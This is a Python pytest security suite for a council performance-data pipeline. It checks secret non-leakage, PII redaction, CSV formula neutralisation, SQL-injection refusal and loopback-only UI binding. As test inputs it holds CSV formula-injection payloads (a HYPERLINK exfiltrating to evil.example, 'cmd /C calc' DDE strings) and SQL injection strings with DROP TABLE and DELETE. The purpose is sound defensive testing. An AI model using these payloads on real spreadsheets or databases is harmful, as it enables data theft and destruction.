"""Security: the API secret never leaves the process; personal data in complaint text never
reaches an export; CSV exports neutralise formulas; identifiers from config and file names never
reach SQL as text; the Dagster UI listens on loopback only."""

from __future__ import annotations

import contextlib
import csv
import io
import logging
import os
import re
import shutil
import uuid
from pathlib import Path

import dagster as dg
import duckdb
import openpyxl
import pytest
import yaml

from lgperf.settings import PROJECT_ROOT, ConfigError, load_pipeline_config
from tests.conftest import point_environment, small_config

CANARY_KEY = f"canary-key-{uuid.uuid4().hex}"
CANARY_SECRET = f"canary-secret-{uuid.uuid4().hex}"
# personal data the redactor knows, planted in one complaint's summary
PII = {
    "email": "zenobia.quarrington.7731@example.org",
    "phone": "0161 496 7731",
    "ni_number": "JG 10 37 73 C",
    "postcode": "M32 0TH",
    "name": "Mrs Zenobia Quarrington",
}
PII_NEEDLES = ("zenobia", "quarrington", "496 7731", "4967731", "JG 10 37 73", "JG103773", "M32 0TH", "M320TH")
COMPLAINT_ID = "CRM-2024-777731"


def text_of_file(path: Path) -> str:
    """Everything readable in a file: its bytes as text, and for Parquet, DuckDB and XLSX files every cell."""
    parts = [path.read_bytes().decode("utf-8", errors="replace")]
    if path.suffix == ".xlsx":
        workbook = openpyxl.load_workbook(path, read_only=True)
        parts += [repr(row) for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True)]
        workbook.close()
    elif path.suffix == ".parquet":
        with duckdb.connect() as connection:
            parts += [repr(r) for r in connection.execute("SELECT * FROM read_parquet(?)", [str(path)]).fetchall()]
    elif path.suffix == ".duckdb":
        parts.append(dump_database(path))
    return "\n".join(parts)


def dump_database(path: Path) -> str:
    with duckdb.connect(str(path), read_only=True) as connection:
        names = connection.execute(
            "SELECT table_schema, table_name FROM information_schema.tables ORDER BY ALL"
        ).fetchall()
        return "\n".join(repr(connection.execute(f'SELECT * FROM "{s}"."{t}"').fetchall()) for s, t in names)


def plant_complaint(inbox: Path) -> None:
    """A complaints file in the CRM layout whose one row carries every personal-data canary."""
    source = inbox / "complaints" / "crm_complaints_2024-25.csv"
    reader = csv.DictReader(io.StringIO(source.read_text(encoding="utf-8")))
    row = next(reader)
    row["Case Ref"] = COMPLAINT_ID
    row["Summary"] = (
        f"My name is Zenobia Quarrington. {PII['name']} wrote again; email {PII['email']}, "
        f"phone {PII['phone']}, NI number {PII['ni_number']}, postcode {PII['postcode']}."
    )
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=reader.fieldnames, lineterminator="\n")
    writer.writeheader()
    writer.writerow(row)
    (inbox / "complaints" / "crm_complaints_canary.csv").write_text(out.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def canary_runs(tmp_path_factory):
    """A refresh_all and the quality report against a demo API that only accepts the canary
    credentials, with a planted personal-data complaint and two transient faults on the way (a
    429 and a 502, each retried, signed afresh); a second refresh_all once the usage allowance is
    used up; then a refresh_all whose secret the API refuses (401). Everything a run leaves
    behind is collected."""
    from demo.server import DemoServer
    from demo.synthetic_inbox import write_demo_inbox
    from orchestration.definitions import build_definitions

    folder = tmp_path_factory.mktemp("canary")
    (folder / "dagster_home").mkdir()
    instance = dg.DagsterInstance.local_temp(str(folder / "dagster_home"))
    captured = []
    handler_stream = io.StringIO()
    handler = logging.StreamHandler(handler_stream)
    logging.getLogger().addHandler(handler)
    logging.getLogger().setLevel(logging.DEBUG)
    # stdout and stderr of the runs: Python's (Dagster's console logger) and the file descriptors' (dbt's subprocess)
    streams = io.StringIO()
    fd_file = (folder / "captured-fds.txt").open("w+b")
    saved = os.dup(1), os.dup(2)
    os.dup2(fd_file.fileno(), 1)
    os.dup2(fd_file.fileno(), 2)
    try:
        with contextlib.redirect_stdout(streams), contextlib.redirect_stderr(streams):
            with (
                pytest.MonkeyPatch.context() as monkeypatch,
                DemoServer(application_key=CANARY_KEY, secret=CANARY_SECRET) as server,
            ):
                env = point_environment(
                    monkeypatch,
                    folder,
                    LGINFORM_BASE_URL=server.url,
                    LGINFORM_APPLICATION_KEY=CANARY_KEY,
                    LGINFORM_SECRET=CANARY_SECRET,
                )
                write_demo_inbox(env.inbox_dir)
                plant_complaint(env.inbox_dir)
                defs = build_definitions(env)
                server.faults.add("rate_limit", times=1, retry_after=0)
                server.faults.add("server_error", times=1, status=502)
                good = defs.resolve_job_def("refresh_all").execute_in_process(instance=instance, raise_on_error=False)
                quality = defs.resolve_job_def("quality_report_job").execute_in_process(
                    instance=instance, raise_on_error=False
                )
                server.faults.add("usage_limit", times=50, path_prefix="/periods")
                exhausted = defs.resolve_job_def("refresh_all").execute_in_process(
                    instance=instance, raise_on_error=False
                )
                requests = len(server.requests)
            with (
                pytest.MonkeyPatch.context() as monkeypatch,
                DemoServer(application_key=CANARY_KEY, secret="the-right-secret") as server,
            ):
                bad_folder = tmp_path_factory.mktemp("canary-401")
                env401 = point_environment(
                    monkeypatch,
                    bad_folder,
                    LGINFORM_BASE_URL=server.url,
                    LGINFORM_APPLICATION_KEY=CANARY_KEY,
                    LGINFORM_SECRET=CANARY_SECRET,
                )
                failed = (
                    build_definitions(env401)
                    .resolve_job_def("refresh_all")
                    .execute_in_process(instance=instance, raise_on_error=False)
                )
    finally:
        os.dup2(saved[0], 1)
        os.dup2(saved[1], 2)
        os.close(saved[0])
        os.close(saved[1])
        logging.getLogger().removeHandler(handler)
    fd_file.seek(0)
    captured += [handler_stream.getvalue(), streams.getvalue(), fd_file.read().decode("utf-8", errors="replace")]
    assert len(captured[1]) > 1000, "the runs' console output was not captured"
    return {
        "folder": folder,
        "bad_folder": bad_folder,
        "instance": instance,
        "good": good,
        "quality": quality,
        "failed": failed,
        "exhausted": exhausted,
        "requests": requests,
        "logs": "\n".join(captured),
        "env": env,
    }


@pytest.mark.soak  # canary_runs is three refreshes: make soak, not make test
def test_the_canary_secret_is_never_logged_stored_or_exported(canary_runs, tried):
    tried(
        "LGINFORM_SECRET and the application key set to unique canaries; a good run (a 429 and a 502 retried on "
        "the way), the quality report, a run once the usage allowance is used up, and a run the API refuses (401)",
        "neither canary in logs, stdout/stderr, Dagster event records, exception messages, audit.api_requests, "
        "raw.lginform_responses, the warehouse file, dbt's run logs, DAGSTER_HOME or any file under EXPORT_DIR",
        "security",
    )
    runs = canary_runs
    assert runs["good"].success and runs["quality"].success
    assert not runs["failed"].success and not runs["exhausted"].success
    assert runs["requests"] > 5  # the canaries were really used
    assert "retrying after attempt" in runs["logs"]  # the transient faults were met, and logged
    spent = next(e for e in runs["exhausted"].all_events if e.event_type_value == "STEP_FAILURE")
    assert "usage allowance is used up" in spent.event_specific_data.error.message
    instance: dg.DagsterInstance = runs["instance"]
    haystacks: dict[str, str] = {"logging, stdout and stderr of the runs": runs["logs"]}
    for name in ("good", "quality", "exhausted", "failed"):
        run_id = runs[name].run_id
        haystacks[f"event records of {name}"] = "\n".join(dg.serialize_value(e) for e in instance.all_logs(run_id))
        for dbt_file in (PROJECT_ROOT / "dbt_project" / "target" / "runs" / run_id).rglob("*"):
            if dbt_file.is_file():
                haystacks[f"dbt {dbt_file}"] = dbt_file.read_text(encoding="utf-8", errors="replace")
    failures = [e.step_failure_data.error for e in runs["failed"].all_events if e.event_type_value == "STEP_FAILURE"]
    assert failures, "the 401 run failed no step"
    haystacks["exception messages"] = "\n".join(f"{f.message}\n{''.join(f.stack)}\n{f.cause!r}" for f in failures)
    assert re.search(r"401|not authori[sz]ed", haystacks["exception messages"], re.IGNORECASE)
    for folder in (runs["folder"], runs["bad_folder"]):
        for path in folder.rglob("*"):
            if path.is_file() and path.suffix not in (".duckdb", ".wal"):
                haystacks[str(path)] = text_of_file(path)
        haystacks[f"{folder}/warehouse.duckdb bytes"] = (folder / "warehouse.duckdb").read_bytes().decode("latin-1")
        haystacks[f"{folder}/warehouse.duckdb tables"] = dump_database(folder / "warehouse.duckdb")
    with duckdb.connect(str(runs["folder"] / "warehouse.duckdb"), read_only=True) as connection:
        requests = connection.execute("SELECT count(*) FROM audit.api_requests").fetchone()[0]
        stored = connection.execute("SELECT count(*) FROM raw.lginform_responses").fetchone()[0]
    assert requests > 0 and stored > 0  # requests were made and recorded, signed with the canary
    for canary in (CANARY_SECRET, CANARY_KEY, "Signature=", "ApplicationKey="):  # nor a signed request's query
        leaks = [where for where, text in haystacks.items() if canary in text]
        assert leaks == [], f"{canary[:13]}... found in {leaks}"
    assert len(haystacks) > 20


@pytest.mark.soak  # the same runs: make soak
def test_personal_data_in_complaint_text_never_reaches_an_export(canary_runs, tried):
    tried(
        "a complaint whose summary holds an email, phone number, NI number, postcode and a titled name",
        "the row is loaded (summary redacted beside the original in raw); none of the canaries is in any file "
        "under EXPORT_DIR (CSV, JSON, HTML, Parquet cells, the BI .duckdb, the quality folder, the officers' returns)",
        "security",
    )
    folder = canary_runs["folder"]
    with duckdb.connect(str(folder / "warehouse.duckdb"), read_only=True) as connection:
        redacted = connection.execute(
            "SELECT summary_redacted FROM raw.complaints WHERE complaint_id = ?", [COMPLAINT_ID]
        ).fetchall()
    assert len(redacted) == 1, "the planted complaint was not loaded: the case would prove nothing"
    assert not any(needle.lower() in redacted[0][0].lower() for needle in PII_NEEDLES), redacted[0][0]
    exported = [p for p in (folder / "exports").rglob("*") if p.is_file()]
    assert {p.relative_to(folder / "exports").parts[0] for p in exported} == {
        "open-data",
        "bi",
        "report",
        "quality",
        "returns",
    }
    leaks = [(str(p), n) for p in exported for n in PII_NEEDLES if n.lower() in text_of_file(p).lower()]
    assert leaks == []


@pytest.mark.soak  # the same runs: make soak
def test_a_run_against_a_service_carries_no_demonstration_label(canary_runs, tried):
    tried(
        "a run against an LG Inform service (LGINFORM_BASE_URL set, the demo not asked for)",
        "no report page, data package, Parquet file or BI table says 'demonstration'",
        "security",
    )
    folder = canary_runs["folder"] / "exports"
    exported = [
        p for p in folder.rglob("*") if p.is_file() and p.parts[len(folder.parts)] in ("open-data", "bi", "report")
    ]
    assert len(exported) > 10
    marked = [str(p) for p in exported if "demonstration" in text_of_file(p).lower()]
    assert marked == []
    with duckdb.connect(str(folder / "bi" / "lgperf_marts.duckdb"), read_only=True) as bi:
        assert "demonstration_data" not in dict(bi.execute("SELECT key, value FROM main.about").fetchall())


CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _baseline_copy(demo_baseline: Path, tmp_path: Path) -> Path:
    """The demo baseline's warehouse copied into ``tmp_path``, to plant text in."""
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copy(demo_baseline / "warehouse.duckdb", warehouse)
    return warehouse


def test_formula_text_is_neutralised_in_every_csv_export(demo_baseline, tmp_path, tried):
    tried(
        "=HYPERLINK, +, - and @ formulas planted in the scorecard's title, commentary and narrative and in complaint "
        "service and theme labels, then the open-data export and a failing-rows CSV written",
        "every CSV cell that starts with = + - @ tab or CR is a plain number or starts with an apostrophe",
        "security",
    )
    from exports.open_data import write_open_data
    from exports.publish import write_csv

    with duckdb.connect(str(_baseline_copy(demo_baseline, tmp_path))) as connection:
        for column, injection in zip(("title", "commentary", "narrative"), INJECTIONS):
            connection.execute(f"UPDATE marts.indicator_performance SET {column} = ?", [injection])
        connection.execute(
            "UPDATE marts.complaints_summary SET theme = ? || theme WHERE theme <> 'all'", [INJECTIONS[3]]
        )
        # and in a large resource, which DuckDB writes (exports/sql_cells.py), in a free-text column
        connection.execute(
            "UPDATE marts.benchmarks SET comparison_group_id = ? || comparison_group_id "
            "WHERE period_id = (SELECT max(period_id) FROM marts.benchmarks)",
            [INJECTIONS[0]],
        )
        write_open_data(connection, tmp_path / "open-data", disclosure_min_count=5)
    write_csv(tmp_path / "failing.csv", ["value"], [[i] for i in INJECTIONS])
    planted = 0
    written_by_duckdb = 0
    for path in [*(tmp_path / "open-data").rglob("*.csv"), tmp_path / "failing.csv"]:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                if any(injection in cell for injection in INJECTIONS):
                    planted += 1
                    written_by_duckdb += path.parent.name == "benchmarks"
                    assert cell.startswith("'"), f"{path.name}: {cell!r}"
                if cell.startswith(CSV_TRIGGERS):
                    float(cell)  # a negative number is data; anything else would run as a formula
    assert planted >= 4 and written_by_duckdb > 0


def test_a_formula_in_a_constrained_column_stops_the_open_data_package(demo_baseline, tmp_path, tried):
    tried(
        "a =HYPERLINK formula planted in indicator_id, a column the package constrains by pattern",
        "frictionless validation refuses the package, naming the resource and the column; nothing is published",
        "security",
    )
    from exports.open_data import InvalidPackage, write_open_data

    with duckdb.connect(str(_baseline_copy(demo_baseline, tmp_path))) as connection:
        connection.execute(
            "UPDATE marts.fct_indicator_values SET indicator_id = ? || indicator_id "
            "WHERE period_id = (SELECT max(period_id) FROM marts.fct_indicator_values)",
            [INJECTIONS[0]],
        )
        with pytest.raises(InvalidPackage) as refused:
            write_open_data(connection, tmp_path / "open-data", disclosure_min_count=5)
    assert "indicator_values" in str(refused.value) and "indicator_id" in str(refused.value)
    assert not (tmp_path / "open-data" / "datapackage.json").exists()


@pytest.mark.parametrize(
    "key, value",
    [
        ("council", "E08000009'; DROP TABLE raw.complaints; --"),
        ("comparison_groups", ['Trafford"; DROP TABLE marts.benchmarks; --']),
        ("metric_types", ["90005'); DELETE FROM raw.lginform_values; --"]),
        ("areas", ["E08000009:x'; DROP TABLE raw.lginform_values; --"]),
        ("areas", ["Trafford_CIPFA'--"]),
    ],
)
def test_identifiers_with_quotes_in_pipeline_yml_are_refused(tmp_path, key, value, tried):
    tried(
        f"pipeline.yml {key} = {value!r}",
        "refused by validation with a message naming the key; nothing runs",
        "security",
    )
    config = small_config()
    if key in config["lginform"]:
        config["lginform"][key] = value
    else:
        config[key] = value
    path = tmp_path / "pipeline.yml"
    path.write_text(yaml.safe_dump(config), encoding="utf-8")
    with pytest.raises(ConfigError, match=rf"\b{key}\b"):
        load_pipeline_config(path)


def test_inbox_file_names_with_quotes_are_handled_safely(demo_baseline, tmp_path, tried):
    tried(
        "inbox files named with quotes, a semicolon and SQL (o'brien\"; DROP TABLE raw.complaints; --.csv)",
        "the file is ingested (or refused with a reason) under its exact name; every raw, "
        "audit and marts table is intact",
        "security",
    )
    from ingestion.inbox_folder import ingest_folder
    from ingestion.layouts import load_layouts, load_vocabulary
    from lgperf import warehouse as layout

    shutil.copytree(demo_baseline, tmp_path / "copy")
    folder = tmp_path / "copy"
    name = "o'brien\"; DROP TABLE raw.complaints; --.csv"
    [source] = (folder / "inbox" / "complaints" / "processed").glob(
        "*_crm_complaints_2024-25.csv"
    )  # taken by the demo run
    text = source.read_text(encoding="utf-8").replace("CRM-2024-", "CRM-2099-")
    (folder / "inbox" / "complaints" / name).write_text(text, encoding="utf-8")
    config = load_pipeline_config(folder / "pipeline.yml")
    layouts_dir = PROJECT_ROOT / config.inbox.layouts_dir
    with layout.connect(folder / "warehouse.duckdb") as connection:
        before = {t: connection.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in _tables(connection)}
        outcomes = ingest_folder(
            connection,
            folder / "inbox",
            "complaints",
            layouts=load_layouts(layouts_dir),
            vocabulary=load_vocabulary(layouts_dir),
            max_file_bytes=config.inbox.max_file_bytes,
            run_id="security-test",
        )
        mine = [o for o in outcomes if o.file_name == name]
        assert len(mine) == 1 and mine[0].status in ("loaded", "refused")
        assert mine[0].status == "loaded" or mine[0].reason
        assert connection.execute("SELECT count(*) FROM raw.inbox_files WHERE file_name = ?", [name]).fetchone()[0] == 1
        after = {t: connection.execute(f"SELECT count(*) FROM {t}").fetchone()[0] for t in _tables(connection)}
    assert set(after) == set(before)
    assert all(after[t] >= before[t] for t in before)
    assert after["raw.complaints"] > before["raw.complaints"] or mine[0].status == "refused"


def _tables(connection) -> list[str]:
    return [
        f"{s}.{t}"
        for s, t in connection.execute(
            "SELECT table_schema, table_name FROM information_schema.tables WHERE table_type = 'BASE TABLE' "
            "ORDER BY ALL"
        ).fetchall()
    ]


def test_the_dagster_ui_binds_to_loopback(tried):
    tried(
        "every documented or scripted `dagster dev` / `dagster-webserver` command (Makefile, README, docs, .ci)",
        "each passes -h/--host 127.0.0.1; none binds 0.0.0.0",
        "security",
    )
    found = []
    candidates = [
        PROJECT_ROOT / "Makefile",
        PROJECT_ROOT / "README.md",
        *PROJECT_ROOT.glob("docs/**/*"),
        *PROJECT_ROOT.glob(".ci/*"),
        *PROJECT_ROOT.glob("*.sh"),
        *PROJECT_ROOT.glob("*.toml"),
    ]
    for path in candidates:
        if not path.is_file():
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        # the generated reliability table (docs/reliability.md) quotes this very case ("none binds 0.0.0.0")
        text = re.sub(r"<!-- reliability:start -->.*?<!-- reliability:end -->", "", text, flags=re.S)
        for line in text.splitlines():
            if (
                re.search(r"\bdagster(-webserver|\s+dev)\b", line)
                and not line.lstrip().startswith("#")
                and "/bin/dagster" in line
                or re.search(r"^\s*(\$\(BIN\)/)?dagster(-webserver|\s+dev)\b", line)
            ):
                found.append((path.name, line))
                assert re.search(r"(-h|--host)\s+127\.0\.0\.1\b", line), f"{path}: {line}"
            assert "0.0.0.0" not in line or "dagster" not in line, f"{path}: {line}"
    # `make dev` starts the UI through `lgperf ui`, which builds the `dagster dev` command itself
    assert "\t$(BIN)/lgperf ui\n" in (PROJECT_ROOT / "Makefile").read_text(encoding="utf-8")
    from orchestration.cli import build_parser, dagster_command

    command = dagster_command()
    assert command[1:3] == ["dev", "-m"] and command[command.index("-h") + 1] == "127.0.0.1", command
    assert build_parser().parse_args(["ui"]).host == "127.0.0.1"
